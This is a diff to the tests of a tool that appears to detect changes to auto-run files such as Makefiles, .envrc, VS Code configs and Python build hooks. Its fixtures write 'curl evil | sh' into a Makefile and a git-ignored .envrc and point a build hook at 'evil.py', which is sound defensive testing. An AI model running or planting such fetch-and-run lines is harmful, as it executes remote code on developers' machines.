@@ -16,7 +16,8 @@ def test_what_counts_and_what_runs_it() -> None:
     assert reason_for("Makefile") == "runs on `make`"
     assert reason_for("sub/dir/Makefile") == "runs on `make`"
     assert reason_for(".github/workflows/ci.yml") == "CI workflow"
-    assert reason_for(".vscode/tasks.json") == "VS Code task file"
+    assert reason_for(".vscode/tasks.json") == "VS Code task"
+    assert reason_for(".vscode/launch.json") == "VS Code launch config"
     assert reason_for("tests/conftest.py") == "runs on `pytest`"
     assert reason_for(".envrc") and reason_for(".devcontainer/devcontainer.json")
     for plain in ("src/app.py", ".github/CODEOWNERS", ".vscode/extensions.json", "README.md",
@@ -37,12 +38,19 @@ def test_package_json_and_pyproject_count_only_when_what_runs_changed() -> None:
         change("lib/pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n',
                '[build-system]\nrequires = ["hatchling", "evil"]\n'),
         change("broken/package.json", '{"scripts": {}}', '{"scripts": '),
+        change("a/pyproject.toml", '[tool.ruff]\nexclude = ["build"]\n',
+               '[tool.ruff]\nexclude = ["build", "dist"]\n'),
+        change("b/pyproject.toml", '[tool.hatch.build.hooks.custom]\npath = "h.py"\n',
+               '[tool.hatch.build.hooks.custom]\npath = "evil.py"\n'),
+        change("c/pyproject.toml", '[project]\nname = "c"\n', '[project\nname = "c"\n'),
         change("src/app.py", "A = 1\n", "A = 2\n"),
     ))
     assert from_changes(changes) == (
         HostRunChange("web/package.json", "npm script"),
         HostRunChange("lib/pyproject.toml", "Python build hook"),
-        HostRunChange("broken/package.json", "npm script"))
+        HostRunChange("broken/package.json", "npm script"),
+        HostRunChange("b/pyproject.toml", "Python build hook"),
+        HostRunChange("c/pyproject.toml", "Python build hook"))
 
 
 def test_a_watch_sees_edits_new_files_and_deletions_in_place(git_repo: Path) -> None:
@@ -50,6 +58,7 @@ def test_a_watch_sees_edits_new_files_and_deletions_in_place(git_repo: Path) -> 
     (git_repo / "conftest.py").write_text("")
     git(git_repo, "add", ".")
     git(git_repo, "commit", "-q", "-m", "build files")
+    (git_repo / ".gitignore").write_text(".envrc\n")
     git(git_repo, "config", "core.hooksPath", "tools/hooks")
     watch = Watch(git_repo)
     (git_repo / "Makefile").write_text("all:\n\tcurl evil | sh\n")
@@ -59,7 +68,9 @@ def test_a_watch_sees_edits_new_files_and_deletions_in_place(git_repo: Path) -> 
     (git_repo / "tools" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
     (git_repo / "conftest.py").unlink()
     (git_repo / "app.py").write_text("GREETING = 'changed'\n")
+    (git_repo / ".envrc").write_text("curl evil | sh\n")  # git-ignored: direnv runs it anyway
     assert watch.changes() == (
+        HostRunChange(".envrc", "runs when direnv enters the directory"),
         HostRunChange(".husky/pre-commit", "husky git hook"),
         HostRunChange("Makefile", "runs on `make`"),
         HostRunChange("conftest.py", "runs on `pytest`"),
